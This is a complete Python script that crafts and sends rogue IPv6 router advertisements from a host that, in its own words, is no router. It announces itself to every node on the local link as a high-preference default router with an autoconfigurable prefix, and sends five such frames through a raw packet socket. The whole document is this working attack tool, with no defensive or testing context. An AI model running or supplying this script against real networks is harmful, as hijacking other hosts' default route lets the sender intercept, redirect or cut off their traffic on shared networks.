"""Router advertisements (RFC 4861, section 4.2) of a guest that is no router."""

from __future__ import annotations

import socket
import struct
import sys
from ipaddress import IPv6Address
from pathlib import Path

_ALL_NODES = "ff02::1"
_ICMPV6, _ROUTER_ADVERTISEMENT = 58, 134
_HOP_LIMIT = 255
_LIFETIME = 1800  # seconds
_PREFIX = "2001:db8:bad::"
_ON_LINK_AND_AUTONOMOUS = 0xC0


def advertisement(mac: str, source: str) -> bytes:
    """Frame of an advertisement to all nodes of the link: a default router of high preference, and a prefix.

    Args:
        mac: MAC address of the sender.
        source: its link-local address.
    """
    hardware = bytes.fromhex(mac.replace(":", ""))
    link = struct.pack(">BB6s", 1, 1, hardware)
    prefix = struct.pack(">BBBBIII", 3, 4, 64, _ON_LINK_AND_AUTONOMOUS, _LIFETIME, _LIFETIME, 0)
    options = link + prefix + IPv6Address(_PREFIX).packed
    body = struct.pack(">BBHBBHII", _ROUTER_ADVERTISEMENT, 0, 0, 64, 0x08, _LIFETIME, 0, 0) + options
    addresses = IPv6Address(source).packed + IPv6Address(_ALL_NODES).packed
    checksum = _checksum(addresses + struct.pack(">II", len(body), _ICMPV6) + body)
    packet = struct.pack(">IHBB", 6 << 28, len(body), _ICMPV6, _HOP_LIMIT) + addresses
    return bytes.fromhex("333300000001") + hardware + b"\x86\xdd" + packet + body[:2] + checksum + body[4:]


def _checksum(data: bytes) -> bytes:
    """Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)


def main() -> None:
    """Send some advertisements. Arguments: the interface, and the link-local address to send from."""
    interface, source = sys.argv[1:]
    mac = Path(f"/sys/class/net/{interface}/address").read_text(encoding="ascii").strip()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        for _ in range(5):
            sender.send(advertisement(mac, source))


if __name__ == "__main__":
    main()
